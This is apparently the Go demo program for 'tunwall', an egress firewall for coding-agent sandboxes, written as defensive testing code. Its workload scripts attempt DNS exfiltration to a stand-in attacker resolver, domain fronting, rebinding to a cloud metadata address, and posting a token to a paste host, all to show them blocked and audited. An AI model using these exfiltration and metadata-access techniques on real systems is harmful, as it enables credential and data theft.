// Command demo shows tunwall's main job end to end in a self-made test
// world (package testworld): two network namespaces joined by a veth, no
// route anywhere else, servers on documentation addresses. `make demo` runs
// it: go run ./internal/demo bin/tunwall.
package main

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"github.com/tunwall/tunwall/internal/testworld"
)

const policyYAML = `# A coding agent's allowlist: the package registry while installing,
# the repository host and one API host while it works.
version: 1
phases:
  setup:
    allow:
      - host: allowed.test          # think: registry.npmjs.org
        ports: [443, 80]
      - host: "*.cdn.allowed.test"  # its CDN, any subdomain (never the apex)
  exec:
    allow:
      - host: allowed.test          # think: github.com
        ports: [443, 80]
      - host: api.allowed.test      # think: api.anthropic.com
      - host: rebind-metadata.test  # allowed, but its DNS points at 169.254.169.254
        ports: [80]
dns:
  upstream: 192.0.2.53:53
`

// The sandboxed workload: well-behaved and badly-behaved clients alike.
const workload = `
say() { printf '\n\033[1m$ %s\033[0m\n' "$*"; }
say 'curl https://allowed.test/            (allowed by name)'
curl -sS --max-time 5 https://allowed.test/
say 'node fetch("https://api.allowed.test/") with HTTPS_PROXY set to an attacker (fetch ignores it; tunwall does not care)'
HTTPS_PROXY=http://192.0.2.66:3128 node -e 'fetch("https://api.allowed.test/").then(r=>r.text()).then(t=>process.stdout.write(t))'
say 'node fetch("https://evil.test/")       (not on the list)'
node -e 'fetch("https://evil.test/").then(()=>console.log("reached!")).catch(e=>console.log("fetch failed:", e.cause && e.cause.code))'
say 'curl https://192.0.2.66/                (a raw IP, no name)'
curl -sS --max-time 5 https://192.0.2.66/ ; echo "curl exit $?"
say 'dig @192.0.2.66 secret-abc123.evil.test TXT   (DNS to an attacker-chosen resolver: an exfiltration attempt)'
dig +short +tries=1 +time=3 @192.0.2.66 secret-abc123.evil.test TXT; dig +tries=1 +time=3 @192.0.2.66 secret-abc123.evil.test TXT | grep -o 'status: [A-Z]*'
say 'curl -H "Host: evil.test" http://allowed.test/   (domain fronting)'
curl -sS --max-time 5 -H 'Host: evil.test' -w '   (the body of an HTTP %{http_code} from tunwall)\n' http://allowed.test/ | tr -d '\n'; echo
say 'curl http://rebind-metadata.test/      (an allowed name whose DNS answer is 169.254.169.254: rebinding)'
curl -sS --max-time 5 http://rebind-metadata.test/ ; echo "curl exit $?"
say 'ping -c1 allowed.test'
ping -c1 -W2 allowed.test | sed -n 2p
`

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: demo PATH/TO/tunwall")
		os.Exit(2)
	}
	if os.Geteuid() != 0 {
		fmt.Fprintln(os.Stderr, "demo: the test world is made of network namespaces and a veth, which needs root:\n  sudo make demo\n(tunwall itself runs rootless; see README)")
		os.Exit(1)
	}
	tw, err := filepath.Abs(os.Args[1])
	if err != nil {
		fail(err)
	}
	os.Exit(run(tw))
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, "demo:", err)
	os.Exit(1)
}

func heading(s string) { fmt.Printf("\n%s== %s%s\n", blue, s, reset) }

// Colour only on a terminal, and never with NO_COLOR set: piped or
// redirected, the demo's output is plain text.
var colour = isTerminal(os.Stdout) && os.Getenv("NO_COLOR") == ""

var bold, blue, reset = pick("\033[1m"), pick("\033[1;34m"), pick("\033[0m")

func pick(seq string) string {
	if colour {
		return seq
	}
	return ""
}

func isTerminal(f *os.File) bool {
	_, err := unix.IoctlGetTermios(int(f.Fd()), unix.TCGETS)
	return err == nil
}

// script makes a workload's escape sequences plain when colour is off.
func script(s string) string {
	if colour {
		return s
	}
	return strings.NewReplacer(`\033[1m`, "", `\033[0m`, "").Replace(s)
}

func run(tw string) int {
	for _, tool := range []string{"ip", "curl", "node", "dig", "ping"} {
		if _, err := exec.LookPath(tool); err != nil {
			fail(fmt.Errorf("%s is not installed (Debian: apt-get install iproute2 curl nodejs dnsutils iputils-ping)", tool))
		}
	}
	heading("Building a test world: an agent namespace and a world namespace, joined by a veth, no route anywhere else")
	w, err := testworld.New(testworld.Options{})
	if err != nil {
		fail(err)
	}
	defer w.Close()
	dir, err := os.MkdirTemp("", "tunwall-demo-")
	if err != nil {
		fail(err)
	}
	defer os.RemoveAll(dir)
	ca, _ := w.CA.WritePEM(dir)
	policy := filepath.Join(dir, "agent.yaml")
	os.WriteFile(policy, []byte(policyYAML), 0o644)
	fmt.Printf("agent netns %s (tunwall runs here), world netns %s: web 192.0.2.10/11, resolver 192.0.2.53,\nan attacker's server 192.0.2.66 that logs every arrival, a fake metadata server 169.254.169.254.\n", w.AgentNS, w.WorldNS)

	heading("The policy (" + policy + ")")
	fmt.Print(policyYAML)
	cmd(tw, "policy", "check", policy)
	cmd(tw, "policy", "explain", policy, "api.allowed.test:443", "--phase", "exec")
	cmd(tw, "policy", "explain", policy, "evil.test:443", "--phase", "exec")

	heading("tunwall run --policy agent.yaml --phase exec -- sh -c WORKLOAD")
	audit := filepath.Join(dir, "audit.jsonl")
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	c := w.AgentCommand(ctx, tw, "run", "--policy", policy, "--phase", "exec", "--audit", audit, "--", "sh", "-c", script(workload))
	c.Env = append(os.Environ(), "SSL_CERT_FILE="+ca, "NODE_EXTRA_CA_CERTS="+ca, "CURL_CA_BUNDLE="+ca)
	c.Stdout, c.Stderr = os.Stdout, os.Stdout
	c.Run()

	heading("What the world saw")
	evil := w.Arrivals("evil")
	meta := w.Arrivals("metadata")
	fmt.Printf("attacker's server 192.0.2.66: %d arrivals; metadata server: %d arrivals\n", len(evil), len(meta))
	var asked []string
	for _, q := range w.DNS.Log() {
		asked = append(asked, q.Name+"/"+q.Type)
	}
	fmt.Printf("the world's resolver was asked only: %s\n", strings.Join(asked, ", "))
	for _, q := range w.DNS.Log() {
		if strings.Contains(q.Name, "evil") || strings.Contains(q.Name, "secret") {
			fmt.Println("  !!! a denied name reached the resolver:", q.Name)
		}
	}

	heading("The audit log: hash-chained, one JSON object per flow and per DNS query")
	if b, err := os.ReadFile(audit); err == nil {
		ls := strings.Split(strings.TrimSpace(string(b)), "\n")
		for _, l := range ls {
			if strings.Contains(l, `"kind":"flow"`) && strings.Contains(l, `"verdict":"deny"`) {
				var pretty bytes.Buffer
				pretty.WriteString(l)
				fmt.Println("one denied flow:", pretty.String())
				break
			}
		}
	}
	cmd(tw, "audit", "verify", audit)
	cmd(tw, "audit", "summary", audit)

	heading("Learn mode builds an allowlist: run with --learn, then tunwall policy suggest")
	learn := filepath.Join(dir, "learn.jsonl")
	lc := w.AgentCommand(ctx, tw, "run", "--learn", "--quiet", "--dns-upstream", "192.0.2.53:53", "--audit", learn, "--",
		"sh", "-c", "curl -s -o /dev/null https://allowed.test/; curl -s -o /dev/null https://a.cdn.allowed.test/; curl -s -o /dev/null https://b.cdn.allowed.test/")
	lc.Env = c.Env
	lc.Run()
	cmd(tw, "policy", "suggest", learn, "--phase", "exec")

	credentials(ctx, tw, w, dir, ca)
	return 0
}

// demoToken stands for a real credential: it lives in tunwall's
// environment only.
const demoToken = "ghp_demoRealTokenThatNeverEntersTheSandbox0"

const credsPolicyYAML = `# Credentials stay outside the sandbox: the sandbox holds a placeholder,
# tunwall puts the token into requests to the one host that should get it.
version: 1
secrets:
  GITHUB_TOKEN: {env: GITHUB_TOKEN}        # read from tunwall's own environment
phases:
  exec:
    allow:
      - host: api.creds.test               # think: api.github.com
        inject: [GITHUB_TOKEN]
      - host: git.creds.test               # think: github.com
        inject: [GITHUB_TOKEN]
        http:                              # clone yes, push no
          - {methods: [GET], paths: ["/repo.git/info/refs"]}
          - {methods: [POST], paths: ["/repo.git/git-upload-pack"]}
      - host: paste.creds.test             # think: gist.github.com: allowed, receives no secret
        http: [{methods: ["*"], paths: ["/**"]}]
dns:
  upstream: 192.0.2.53:53
`

const credsWorkload = `
export HOME=$(mktemp -d)
say() { printf '\n\033[1m$ %s\033[0m\n' "$*"; }
say 'echo $GITHUB_TOKEN                    (what the sandbox holds)'
echo "$GITHUB_TOKEN"
say 'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.creds.test/user   (the token is injected for this host)'
curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" https://api.creds.test/user
say 'curl -H "Authorization: Bearer $GITHUB_TOKEN" -d ... https://paste.creds.test/gists   (the same placeholder to another host)'
curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" -d '{"content":"leak"}' https://paste.creds.test/gists
say 'git clone https://x-access-token:$GITHUB_TOKEN@git.creds.test/repo.git   (allowed: the token goes in as Basic credentials)'
cd "$(mktemp -d)" && git -c init.defaultBranch=main clone -q "https://x-access-token:$GITHUB_TOKEN@git.creds.test/repo.git" r && cat r/README
say 'git push origin main                    (git-receive-pack: no http rule allows it)'
cd r && echo x > f && git add f && git -c user.name=a -c user.email=a@b commit -qm x && git push origin main 2>&1 | head -3
`

// credentials shows a token injected for one host, the same placeholder
// refused for another, and a git push denied.
func credentials(ctx context.Context, tw string, w *testworld.World, dir, ca string) {
	heading("Keeping credentials out of the sandbox: --policy creds.yaml, the token only in tunwall's environment")
	if _, err := exec.LookPath("git"); err != nil {
		fmt.Println("(skipped: git is not installed)")
		return
	}
	repo := filepath.Join(dir, "git")
	os.MkdirAll(repo, 0o755)
	c, err := w.StartCreds(testworld.CredsOptions{Token: demoToken, RepoDir: repo})
	if err != nil {
		fmt.Println("demo:", err)
		return
	}
	pol := filepath.Join(dir, "creds.yaml")
	os.WriteFile(pol, []byte(credsPolicyYAML), 0o644)
	fmt.Print(credsPolicyYAML)
	audit := filepath.Join(dir, "creds.jsonl")
	rc := w.AgentCommand(ctx, tw, "run", "--policy", pol, "--audit", audit, "--", "sh", "-c", script(credsWorkload))
	rc.Env = append(os.Environ(), "GITHUB_TOKEN="+demoToken, "SSL_CERT_FILE="+ca, "HOME="+dir)
	var out bytes.Buffer
	rc.Stdout, rc.Stderr = &out, &out
	rc.Run()
	fmt.Print(strings.ReplaceAll(out.String(), demoToken, "<THE REAL TOKEN>"))

	heading("What the servers got")
	real := 0
	for _, a := range append(c.Auths("api"), c.Auths("git")...) {
		if strings.Contains(a, demoToken) || strings.Contains(a, "Basic ") {
			real++
		}
	}
	fmt.Printf("api.creds.test and git.creds.test: %d requests carried the real token (Bearer, and Basic for git)\n", real)
	fmt.Printf("paste.creds.test: %d requests arrived\n", len(c.Got("paste")))
	if b, err := os.ReadFile(audit); err == nil {
		fmt.Printf("the token's value is in the audit log: %v, in the sandbox's output: %v\n", bytes.Contains(b, []byte(demoToken)), strings.Contains(out.String(), demoToken))
		for _, l := range strings.Split(string(b), "\n") {
			if strings.Contains(l, `"kind":"http"`) && strings.Contains(l, `"verdict":"deny"`) {
				fmt.Println("one denied request:", l)
				break
			}
		}
	}
	cmd(tw, "policy", "explain", pol, "https://git.creds.test/repo.git/git-receive-pack", "--method", "POST")
}

// cmd runs tunwall outside any namespace (policy and audit commands need none).
func cmd(tw string, args ...string) {
	fmt.Printf("\n%s$ tunwall %s%s\n", bold, strings.Join(args, " "), reset)
	c := exec.Command(tw, args...)
	c.Stdout, c.Stderr = os.Stdout, os.Stdout
	c.Run()
}
